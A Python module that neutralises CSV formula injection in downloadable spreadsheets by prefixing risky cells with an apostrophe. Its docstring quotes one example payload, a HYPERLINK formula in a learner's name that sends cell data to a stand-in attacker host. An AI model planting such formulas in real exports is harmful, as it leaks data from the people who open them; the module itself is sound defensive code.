"""CSV files people open in a spreadsheet: cells that would run as formulas are defused.

A CSV a member of staff downloads and opens in Excel, LibreOffice or Google Sheets treats a cell
that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a
formula, so a learner named ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run one on
the issuer's machine (CSV injection, OWASP). :func:`safe_cell` prefixes such text with an
apostrophe, which spreadsheets show as text and do not evaluate; :func:`safe_writer` applies it
to every text cell a ``csv.writer`` writes. Numbers are left alone.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """A ``csv.writer`` whose text cells go through :func:`safe_cell`."""

    def __init__(self, stream: Any) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(stream: Any) -> SafeWriter:
    return SafeWriter(stream)
